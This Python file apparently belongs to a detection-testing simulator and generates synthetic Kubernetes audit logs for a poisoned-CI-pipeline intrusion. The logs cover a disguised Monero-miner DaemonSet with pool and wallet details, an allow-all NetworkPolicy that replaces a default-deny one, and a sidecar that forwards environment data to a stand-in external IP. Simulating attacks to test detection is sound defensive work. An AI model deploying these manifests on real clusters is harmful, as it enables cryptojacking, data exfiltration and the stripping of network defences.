"""A poisoned CI job using the pipeline's own identity."""

from __future__ import annotations

import datetime as dt
import json
from typing import Any

from pytest_ctirealm.telemetry import environment as env
from pytest_ctirealm.telemetry.benign import aks as k8s
from pytest_ctirealm.telemetry.context import SimContext
from pytest_ctirealm.telemetry.scenarios.aks.common import (
    CI_APPLY,
    FRONTEND,
    Intrusion,
    created,
)
from pytest_ctirealm.telemetry.scenarios.base import Stages, incident_start, scenario

#: The operator's kubectl (a release Contoso's engineers do not use) and its two VPSs.
RETURN_IP = "203.0.113.140"
#: The poisoned CI job's miner and sidecar images, pool and wallet.
MINER_IMAGE = "docker.io/lwmetrics/node-helper:1.7.2"
SIDECAR_IMAGE = "docker.io/lwmetrics/log-forwarder:0.9.4"
POOL = "stratum+tcp://pool.supportxmr.com:3333"
WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"


# --------------------------------------------------------------------------- poisoned pipeline


@scenario(
    "aks_poisoned_pipeline",
    "aks",
    (
        "ci_access",
        "miner_daemonset",
        "miner_pods",
        "netpol_opened",
        "sidecar_implant",
        "sidecar_rollout",
    ),
)
def aks_poisoned_pipeline(ctx: SimContext) -> Stages:
    """A malicious step in a CI job, with the pipeline's identity and kubectl: a miner on
    every node, the api namespace's traffic opened, a sidecar added to the frontend."""
    start = incident_start(ctx, "aks-pipeline", (10, 17))
    if ctx.days > 1 and start < ctx.day_start(1):
        start += dt.timedelta(days=1)  # after the first day's CI has set up api's policies
    t = Intrusion(ctx, "aks_poisoned_pipeline", start)
    ci = k8s._ci(t.rng, k8s._CI_KUBECTL)
    t.emit("ci_access", ci, "get", "/openapi/v2?timeout=32s")
    _miner(t, ci)
    _open_network_policies(t, ci)
    _sidecar(t, ci)
    return t.stages


def _miner(t: Intrusion, ci: k8s._Who) -> None:
    """A DaemonSet in kube-system, named like a node agent, whose containers mine Monero."""
    name = "node-helper"
    args = (
        "-o",
        POOL,
        "-u",
        WALLET,
        "-p",
        "aks",
        "--donate-level=1",
        "--cpu-max-threads-hint=75",
    )
    labels = {"app": name}
    daemonset = {
        "apiVersion": "apps/v1",
        "kind": "DaemonSet",
        "metadata": {"name": name, "namespace": "kube-system", "labels": labels},
        "spec": {
            "selector": {"matchLabels": labels},
            "template": {
                "metadata": {"labels": labels},
                "spec": {
                    "tolerations": [{"operator": "Exists"}],
                    "priorityClassName": "system-node-critical",
                    "containers": [
                        {
                            "name": name,
                            "image": MINER_IMAGE,
                            "args": list(args),
                            "resources": {"requests": {"cpu": "100m", "memory": "64Mi"}},
                        }
                    ],
                },
            },
        },
    }
    path = "/apis/apps/v1/namespaces/kube-system/daemonsets"
    t.emit("ci_access", ci, "get", f"{path}/{name}", after=8, code=404)
    t.emit(
        "miner_daemonset",
        ci,
        "create",
        f"{path}?{CI_APPLY}",
        after=0.3,
        request=daemonset,
        response=created(daemonset, t.now),
        code=201,
        name=name,
    )
    shape = k8s._PodShape(
        "default", MINER_IMAGE, ("/usr/local/bin/node-helper", *args), container=name
    )
    controller = k8s._CALLERS["ctrl:daemon-set-controller"][0]
    revision = k8s._suffix(10, name, str(t.ctx.seed))
    when = t.now + dt.timedelta(seconds=0.4)
    for node, node_name in enumerate(k8s._NODES):
        pod = f"{name}-{k8s._suffix(5, name, node_name, str(t.ctx.seed))}"
        when = t.day().create_pod(
            controller,
            shape,
            pod,
            "kube-system",
            node,
            k8s._owner("DaemonSet", name, "apps/v1"),
            {"app": name, "controller-revision-hash": revision},
            when + dt.timedelta(seconds=t.rng.uniform(0.05, 0.4)),
        )
    t.file("miner_pods")


def _open_network_policies(t: Intrusion, ci: k8s._Who) -> None:
    """api's default-deny policy deleted and an allow-everything policy applied."""
    path = "/apis/networking.k8s.io/v1/namespaces/api/networkpolicies"
    t.emit(
        "netpol_opened",
        ci,
        "delete",
        f"{path}/api-default-deny",
        after=20,
        request=k8s._delete_options(),
        response=k8s._deleted("networkpolicies", "api-default-deny"),
    )
    policy = {
        "apiVersion": "networking.k8s.io/v1",
        "kind": "NetworkPolicy",
        "metadata": {"name": "api-allow-monitoring", "namespace": "api"},
        "spec": {
            "podSelector": {},
            "policyTypes": ["Ingress", "Egress"],
            "ingress": [{}],
            "egress": [{"to": [{"ipBlock": {"cidr": "0.0.0.0/0"}}]}],
        },
    }
    t.emit("ci_access", ci, "get", f"{path}/api-allow-monitoring", after=3, code=404)
    t.emit(
        "netpol_opened",
        ci,
        "create",
        f"{path}?{CI_APPLY}",
        after=0.3,
        request=policy,
        response=created(policy, t.now),
        code=201,
        name="api-allow-monitoring",
    )


def _current_image(t: Intrusion) -> str:
    """The frontend image CI last rolled out before now (the previous working day's, if none
    today)."""
    day = (t.now - t.ctx.start).days
    while day >= -7:
        plan = k8s._deploy_plan(t.ctx, day)[FRONTEND.name]
        earlier = [moment for moment in plan if moment < t.now]
        if earlier:
            moment = earlier[-1]
            start = t.ctx.day_start(day)
            tag = f"{start:%Y.%m.%d}-{env.stable_hex(7, str(t.ctx.seed), FRONTEND.name, k8s._ts(moment))}"
            return f"{k8s._REGISTRY}/{FRONTEND.namespace}/{FRONTEND.name}:{tag}"
        day -= 1
    return f"{k8s._REGISTRY}/{FRONTEND.namespace}/{FRONTEND.name}:stable"


def _sidecar(t: Intrusion, ci: k8s._Who) -> None:
    """A `log-forwarder` container from a public registry added to the frontend Deployment."""
    image = _current_image(t)
    sidecar = {
        "name": "log-forwarder",
        "image": SIDECAR_IMAGE,
        "args": ["--forward", f"https://{RETURN_IP}:8443/ingest", "--env"],
    }
    manifest = k8s._deployment(FRONTEND, image)
    manifest["spec"]["template"]["spec"]["containers"].append(sidecar)
    patch = {
        "metadata": {
            "annotations": {
                "kubectl.kubernetes.io/last-applied-configuration": json.dumps(manifest)
            }
        },
        "spec": {"template": {"spec": {"containers": [sidecar]}}},
    }
    path = f"/apis/apps/v1/namespaces/{FRONTEND.namespace}/deployments/{FRONTEND.name}"
    t.emit("ci_access", ci, "get", path, after=25)
    t.emit(
        "sidecar_implant",
        ci,
        "patch",
        f"{path}?{CI_APPLY}",
        after=0.3,
        request=patch,
        response=k8s._stored(manifest, t.now),
    )
    template = k8s._suffix(10, FRONTEND.name, "sidecar", str(t.ctx.seed))
    labels = {"app": FRONTEND.name, "pod-template-hash": template}
    replicaset: dict[str, Any] = {
        "kind": "ReplicaSet",
        "apiVersion": "apps/v1",
        "metadata": k8s._meta(
            f"{FRONTEND.name}-{template}",
            FRONTEND.namespace,
            labels=labels,
            ownerReferences=k8s._owner("Deployment", FRONTEND.name, "apps/v1"),
        ),
        "spec": {
            "replicas": 1,
            "selector": {"matchLabels": labels},
            "template": {
                "metadata": {"labels": labels},
                "spec": manifest["spec"]["template"]["spec"],
            },
        },
    }
    t.emit(
        "sidecar_rollout",
        k8s._CALLERS["ctrl:deployment-controller"][0],
        "create",
        f"/apis/apps/v1/namespaces/{FRONTEND.namespace}/replicasets",
        after=0.2,
        request=replicaset,
        response=created(replicaset, t.now),
        code=201,
        name=replicaset["metadata"]["name"],
    )
